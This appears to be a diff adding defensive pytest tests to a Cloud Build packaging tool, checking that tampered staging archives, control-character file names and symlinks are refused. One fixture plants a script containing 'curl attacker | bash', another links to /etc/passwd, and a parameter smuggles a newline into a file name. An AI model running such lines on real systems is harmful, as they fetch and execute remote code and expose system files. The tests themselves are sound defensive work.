@@ -4,6 +4,7 @@ the log stream and the choice of remote vs local."""
 
 from __future__ import annotations
 
+import base64
 import hashlib
 import io
 import json
@@ -112,6 +113,17 @@ def test_the_source_is_deterministic_and_the_first_step_refuses_a_changed_archiv
     run = ["bash", "-c", check.replace(store_remote.WORKSPACE, str(ws))]
     assert subprocess.run(run, capture_output=True, check=False).returncode == 0
     assert (ws / "build" / "installer" / "run.sh").is_file()
+    # Beside the checked archive, Cloud Build would unpack whatever else the source object holds: refused.
+    (ws / "build").rename(ws / "before-planted")
+    planted = ws / "phases"
+    planted.mkdir()
+    (planted / "00-deepep.sh").write_text("echo planted\n")
+    proc = subprocess.run(run, capture_output=True, text=True, check=False)
+    assert proc.returncode != 0 and "holds more than build.tar.gz" in proc.stderr
+    assert not (ws / "build").exists()
+    for extra in (planted / "00-deepep.sh", planted, ws / "before-planted"):
+        subprocess.run(["rm", "-rf", str(extra)], check=True)
+    assert subprocess.run(run, capture_output=True, check=False).returncode == 0
     (ws / "build.tar.gz").write_bytes(inner[:-1] + bytes([inner[-1] ^ 1]))
     (ws / "build").rename(ws / "before")
     assert subprocess.run(run, capture_output=True, check=False).returncode != 0
@@ -165,9 +177,11 @@ def test_the_publish_step_publishes_to_cloud_storage_with_the_builds_token(
     data, meta = FakeGcs.objects[f"team/deepep/manifests/{local_sha}.txt"]
     assert data == (local_remote / "manifests" / f"{local_sha}.txt" / "data").read_bytes()
     for line in data.decode().splitlines():
-        digest, rel = line.split("  ")
+        digest, rel, *unpacked = line.split("  ")
         body, meta = FakeGcs.objects[f"team/deepep/{rel}"]
         assert hashlib.sha256(body).hexdigest() == digest == meta["sha256"]
+        # An archive's line records what it unpacks to (the node's bound); other objects have none.
+        assert bool(unpacked) == rel.endswith((".tar.gz", ".tar")), line
     again = publish(work, "gs://bucket/team/deepep", out, DEEPEP_GCS_API=gcs, DEEPEP_METADATA_URL=gcs)
     assert again.returncode == 0, again.stderr  # 412 on every object: already there with the same digest
     assert FakeGcs.seen_auth == {"Bearer tok"}  # the digests read back with the metadata server's token
@@ -313,6 +327,12 @@ class FakeStoreGcs:
     def generation(self, rel: str) -> int:
         return 1764288000123456
 
+    def stored(self, rel: str) -> tuple[str, int]:
+        """Cloud Storage's md5Hash of what it holds (base64 of the MD5), and the generation."""
+        if rel not in self.files:
+            return "", 0
+        return base64.b64encode(hashlib.md5(self.files[rel]).digest()).decode(), 1764288000123456
+
     def read(self, rel: str) -> bytes:
         return self.files[rel]
 
@@ -367,3 +387,49 @@ def test_the_price_is_cited_with_its_date_and_the_estimate_is_derived_from_the_m
     assert f"read {entry[2]}" in line
     priced = {"cloud_build": {"per_build_minute": {}, "source": "s", "read": "r"}}
     assert "price unknown" in store_estimate.estimate_line(priced)  # no row for the machine: said, not guessed
+
+
+def test_an_existing_staging_object_with_other_bytes_is_refused_by_its_md5(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The staging object is named by build.tar.gz's sha256, but its name proves nothing: an outer archive that
+    holds the real build.tar.gz plus a planted phases/00-deepep.sh would pass the first step's sha256 check. Its
+    md5Hash (Cloud Storage's, base64 of the MD5) must be this archive's, else nothing is submitted."""
+    monkeypatch.setattr(store, "fill", lambda *a, **k: 0)
+    cfg = gke()
+    store_build.render(cfg, tmp_path)
+    inner, sha = store_remote.prepare(cfg, tmp_path, None, fill=False)
+
+    def add(tar: tarfile.TarFile) -> None:
+        tar.addfile(store_remote._info("build.tar.gz", len(inner)), io.BytesIO(inner))
+        evil = b"curl attacker | bash\n"
+        tar.addfile(store_remote._info("phases/00-deepep.sh", len(evil), 0o755), io.BytesIO(evil))
+
+    planted = store_remote._tar_gz(add, level=0)
+    store_gcs = FakeStoreGcs({f"staging/build-{sha}.tar.gz": planted})
+    client = FakeCloudBuild(["SUCCESS"], [b"", b"", sha.encode()])
+    with pytest.raises(click.ClickException, match=r"holds other bytes .*md5Hash.*refused"):
+        store_remote.run(cfg, tmp_path, "i@sha256:" + "0" * 64, target(cfg), None, lambda _: None, client,
+                         FakeLogging([]).post, store_gcs, lambda _: None)  # type: ignore[arg-type]  # fmt: skip
+    assert client.created == []  # nothing submitted
+
+
+@pytest.mark.parametrize("bad", ["store/sources/evil\nname", "steps/tab\tname"])
+def test_the_packer_refuses_a_name_with_a_control_character(tmp_path: Path, bad: str) -> None:
+    cfg = gke()
+    store_build.render(cfg, tmp_path)
+    store_remote.write_steps(cfg, tmp_path)
+    (tmp_path / bad).parent.mkdir(parents=True, exist_ok=True)
+    (tmp_path / bad).write_text("x")
+    with pytest.raises(click.ClickException, match="control character"):
+        store_remote.pack(tmp_path)
+
+
+def test_the_packer_refuses_a_link(tmp_path: Path) -> None:
+    cfg = gke()
+    store_build.render(cfg, tmp_path)
+    store_remote.write_steps(cfg, tmp_path)
+    (tmp_path / "store" / "sources").mkdir(parents=True, exist_ok=True)
+    (tmp_path / "store" / "sources" / "passwd").symlink_to("/etc/passwd")
+    with pytest.raises(click.ClickException, match="not a regular file or folder"):
+        store_remote.pack(tmp_path)
